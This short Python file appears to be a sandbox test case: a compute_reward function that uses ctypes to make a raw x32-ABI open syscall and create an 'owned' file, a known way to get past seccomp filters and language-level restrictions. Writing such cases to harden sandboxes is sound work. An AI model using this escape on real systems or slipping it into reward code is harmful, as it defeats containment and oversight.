# attack: the x32 table
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes, os, socket
    lib = ctypes.CDLL(None, use_errno=True)
    lib.syscall(0x40000000 + 2, b'@FOLDER@/owned', 0o101, 0o666)
    return x, {}
